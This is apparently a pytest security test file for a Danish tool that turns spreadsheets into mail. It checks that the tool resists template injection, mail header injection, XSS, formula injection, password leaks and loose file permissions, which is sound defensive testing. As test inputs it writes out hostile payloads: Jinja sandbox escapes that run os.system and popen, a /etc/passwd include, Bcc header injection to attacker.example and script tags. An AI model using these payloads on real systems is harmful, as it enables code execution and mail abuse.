"""README, "Templates" under attack: cell text is data, mail goes only where it should, secrets
stay secret, files are private, and templates stay in their sandbox."""

from __future__ import annotations

import base64
import os
import re
import shutil
import stat
import zipfile
from datetime import date

import openpyxl
import pytest

from automation.core.model import CellWrite
from automation.mail.render import builtin_templates_dir
from automation.sheets.xlsx import XlsxWorkbook
from tests.faultkit import (
    NOW,
    PASSWORD,
    PASSWORD_ENV,
    USER,
    rygrad,
    rygrad_process,
    small_workbook,
    smtp_config,
)
from tests.smtpserver import SmtpServer, make_certificates
from tests.workbook import GROUPS, PEOPLE, read_outbox, write_config, write_workbook

SECRETARIAT = "sekretariat@ungeloeftet.example"
INJECTED_NAME = "Eva {{ 7*7 }}\r\nBcc: evil@attacker.example"
INJECTED_GROUP = "AG {% for x in range(3) %}X{% endfor %}\u2028Bcc: evil@attacker.example"
SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(1)>"
LONG = "Lang " * 600
# what the hostile cycle must send at NOW, (key, recipient): every test below looks at
# these mails, so a cycle that sent none (or left the hostile names out) fails them all
AGU_1 = ("bo@ngo.example", "anne@kommune.example", "eva@partner.example",
         "clara@partner.example")
X_1 = ("eva@partner.example", "lang@partner.example")
HOSTILE_MAILS = {
    *(("invitation:AGU-1:0", to) for to in AGU_1), *(("agenda:AGU-1", to) for to in AGU_1),
    *(("invitation:X-1:0", to) for to in X_1), *(("agenda:X-1", to) for to in X_1),
    ("escalation:H-out:2026-11-01", "anne@kommune.example"),  # not to the stranger
    # the hostile group's chair is not in People: the secretariat gets its escalation
    ("escalation:H-{{1}}:2026-11-01", SECRETARIAT),
    ("digest:2026-W49", SECRETARIAT),
}


@pytest.fixture
def hostile_cycle(tmp_path):
    """One cycle over a sheet whose partner cells try every trick on the mails."""
    people = [*PEOPLE,
              {"Navn": INJECTED_NAME, "E-mail": "eva@partner.example",
               "Grupper": f"AG Uddannelse; {INJECTED_GROUP}"},
              {"Navn": LONG, "E-mail": "lang@partner.example", "Grupper": INJECTED_GROUP}]
    groups = [*GROUPS, {"Gruppe": INJECTED_GROUP, "Formand": "boss@outside.example",
                        "Mål": "{{ ''.__class__.__mro__ }} " + SCRIPT}]
    meetings = [{"Møde-ID": "AGU-1", "Gruppe": "AG Uddannelse", "Dato": date(2026, 12, 4),
                 "Start": "14.00", "Sted": SCRIPT + "\r\nX-Evil: 1",
                 "Dagsorden": "{{ config }}\n{% include '/etc/passwd' %}\n" + SCRIPT},
                {"Møde-ID": "X-1", "Gruppe": INJECTED_GROUP, "Dato": date(2026, 12, 3),
                 "Start": "10", "Sted": LONG, "Dagsorden": LONG}]
    actions = [{"Handling-ID": "H-{{1}}", "Gruppe": INJECTED_GROUP,
                "Handling": "=HYPERLINK(\"http://evil.example\") " + SCRIPT + "\u2028Bcc: x@y",
                "Ansvarlig": INJECTED_NAME, "Frist": date(2026, 11, 1), "Status": "I gang"},
               {"Handling-ID": "H-out", "Gruppe": "AG Uddannelse", "Handling": "Udefra",
                "Ansvarlig": "stranger@outside.example", "Frist": date(2026, 11, 1)}]
    workbook = write_workbook(tmp_path / "initiative.xlsx", {
        "Personer": people, "Grupper": groups, "Møder": meetings, "Handlinger": actions})
    as_typed_text(workbook)
    config = write_config(tmp_path, workbook)
    run = rygrad("run", "--once", "--config", str(config), "--now", NOW)
    assert run.status == 0, run.out + run.err
    raw = [path.read_bytes() for path in sorted((tmp_path / "outbox").glob("*.eml"))]
    mails = read_outbox(tmp_path / "outbox")
    sent = [(str(m["X-Rygrad-Key"]), m["To"].addresses[0].addr_spec) for m in mails]
    assert len(raw) == len(sent) == len(HOSTILE_MAILS) and set(sent) == HOSTILE_MAILS, \
        sorted(set(sent) ^ HOSTILE_MAILS)
    return raw, mails


def as_typed_text(workbook):
    """Cells that start with "=" as the text a partner typed (Excel's leading apostrophe),
    not as formulas openpyxl would write without a value (those are skipped, unread)."""
    book = openpyxl.load_workbook(workbook)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    book.save(workbook)


def test_cell_text_is_never_a_template(hostile_cycle):
    _raw, mails = hostile_cycle
    texts = [m.get_body(("plain",)).get_content() for m in mails]
    everything = "\n".join(texts)
    assert "Eva {{ 7*7 }}" in everything and "Eva 49" not in everything
    assert "{{ config }}" in everything and "{% include '/etc/passwd' %}" in everything
    assert "root:x:0:0" not in everything and "XXX" not in everything
    assert "<class 'object'>" not in everything


def test_no_value_breaks_a_header(hostile_cycle):
    raw, mails = hostile_cycle
    allowed = {"from", "to", "cc", "reply-to", "subject", "date", "message-id",
               "x-rygrad-key", "auto-submitted", "content-language", "content-type",
               "mime-version", "content-transfer-encoding"}
    for data, mail in zip(raw, mails, strict=True):
        head = data.split(b"\n\n", 1)[0]
        assert all(len(line) <= 998 for line in head.split(b"\n"))
        assert b"\r" not in head.replace(b"\r\n", b"\n")
        names = {name.lower() for name in mail}
        assert names <= allowed, names - allowed
        assert mail["Bcc"] is None and mail["X-Evil"] is None
        for name in ("Subject", "To", "From"):
            assert "\n" not in str(mail[name]) and "\u2028" not in str(mail[name])


def test_html_and_script_are_escaped(hostile_cycle):
    _raw, mails = hostile_cycle
    html = "\n".join(m.get_body(("html",)).get_content() for m in mails)
    assert "<script>" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in html


def test_mail_only_to_people_and_the_secretariat(hostile_cycle):
    _raw, mails = hostile_cycle
    people = {p["E-mail"] for p in PEOPLE} | {"eva@partner.example", "lang@partner.example"}
    for mail in mails:
        for header in ("To", "Cc", "Bcc"):
            for address in getattr(mail[header], "addresses", ()):
                assert address.addr_spec in people | {SECRETARIAT}, address


@pytest.mark.parametrize("value", ["=1+1", "+45 12345678", "-3", "@SUM(A1:A3)",
                                   "=HYPERLINK(\"http://evil.example\",\"klik\")",
                                   "\t=1+1", " =1+1"])
def test_values_written_back_never_become_formulas(tmp_path, value):
    workbook = write_workbook(tmp_path / "w.xlsx", {"Handlinger": [
        {"Handling-ID": "H-1", "Handling": "x", "Ansvarlig": "Anne Holm"}]})
    backend = XlsxWorkbook(workbook)
    assert backend.write([CellWrite("Handlinger", 2, 10, value, "H-1", 1)],
                         backend.read().version) == 1
    cell = openpyxl.load_workbook(workbook)["Handlinger"]["J2"]
    assert cell.data_type == "s" and cell.value == value
    with zipfile.ZipFile(workbook) as package:
        names = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(package.read(n).decode() for n in names)
    written = re.search(r'<c r="J2"[^>]*>.*?</c>', xml, re.S)
    assert written and 't="inlineStr"' in written.group(0) and "<f>" not in written.group(0)


def test_password_never_in_logs_output_or_tracebacks(tmp_path):
    """A whole SMTP cycle with --debug, then a refused login with --debug (a traceback)."""
    certificates = make_certificates(tmp_path / "certs")
    workbook = small_workbook(tmp_path / "initiative.xlsx")
    secrets = {PASSWORD, base64.b64encode(f"\0{USER}\0{PASSWORD}".encode()).decode(),
               base64.b64encode(PASSWORD.encode()).decode()}
    with SmtpServer("starttls", certificates, users={USER: PASSWORD}) as server:
        config = smtp_config(tmp_path, workbook, server.host, server.port, certificates)
        good = rygrad_process(config, "--debug", "run", "--once", "--now", NOW,
                              env={PASSWORD_ENV: PASSWORD})
        assert good.status == 0 and len(server.messages) == 11
        ledger = (tmp_path / "state" / "ledger.sqlite3").read_bytes()
        shutil.rmtree(tmp_path / "state")  # the same mail due again, to a refused login
        wrong = PASSWORD + "-forkert"
        bad = rygrad_process(config, "--debug", "run", "--once", "--now", NOW,
                             env={PASSWORD_ENV: wrong})
    assert "INFO automation.transports.smtp" in good.err and "Traceback" in bad.err
    secrets |= {wrong, base64.b64encode(f"\0{USER}\0{wrong}".encode()).decode()}
    for output in (good.out, good.err, bad.out, bad.err):
        assert not any(secret in output for secret in secrets)
    assert PASSWORD.encode() not in ledger


def test_ledger_and_outbox_are_private(tmp_path):
    workbook = small_workbook(tmp_path / "initiative.xlsx")
    config = write_config(tmp_path, workbook)
    saved = os.umask(0o022)  # a typical umask: new files readable by everyone
    try:
        assert rygrad("run", "--once", "--config", str(config), "--now", NOW).status == 0
    finally:
        os.umask(saved)

    def mode(path):
        return stat.S_IMODE(path.stat().st_mode)

    state = tmp_path / "state"
    assert mode(state) == 0o700 and mode(state / "ledger.sqlite3") == 0o600
    for side in state.glob("ledger.sqlite3-*"):  # the WAL holds message content too
        assert mode(side) & 0o077 == 0, side
    outbox = tmp_path / "outbox"
    assert mode(outbox) == 0o700
    emls = list(outbox.glob("*.eml"))
    assert emls and all(mode(p) & 0o077 == 0 for p in emls)


@pytest.mark.parametrize("attack", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.system('touch PWNED') }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% include '../../../../etc/passwd' %}",
])
def test_a_template_escaping_the_sandbox_fails_cleanly(tmp_path, attack, monkeypatch):
    monkeypatch.chdir(tmp_path)
    templates = tmp_path / "templates"
    (templates / "da").mkdir(parents=True)
    for name in ("reminder.subject.txt", "reminder.html"):
        shutil.copy(builtin_templates_dir() / "da" / name, templates / "da" / name)
    (templates / "da" / "reminder.txt").write_text(f"Hej\n{attack}\n", encoding="utf-8")
    workbook = small_workbook(tmp_path / "initiative.xlsx")
    config = write_config(tmp_path, workbook, templates={"dir": str(templates)})
    run = rygrad("run", "--once", "--config", str(config), "--now", NOW)
    assert run.status == 1, run.out + run.err
    assert "Traceback" not in run.out + run.err
    line = next(x for x in run.out.splitlines() if "not rendered" in x)
    assert "reminder:H-1:2026-12-04 → bo@ngo.example" in line
    assert "reminder.txt" in line
    assert not (tmp_path / "PWNED").exists()
    keys = {str(m["X-Rygrad-Key"]) for m in read_outbox(tmp_path / "outbox")}
    assert len(keys) == 5 and "reminder:H-1:2026-12-04" not in keys  # the rest went out
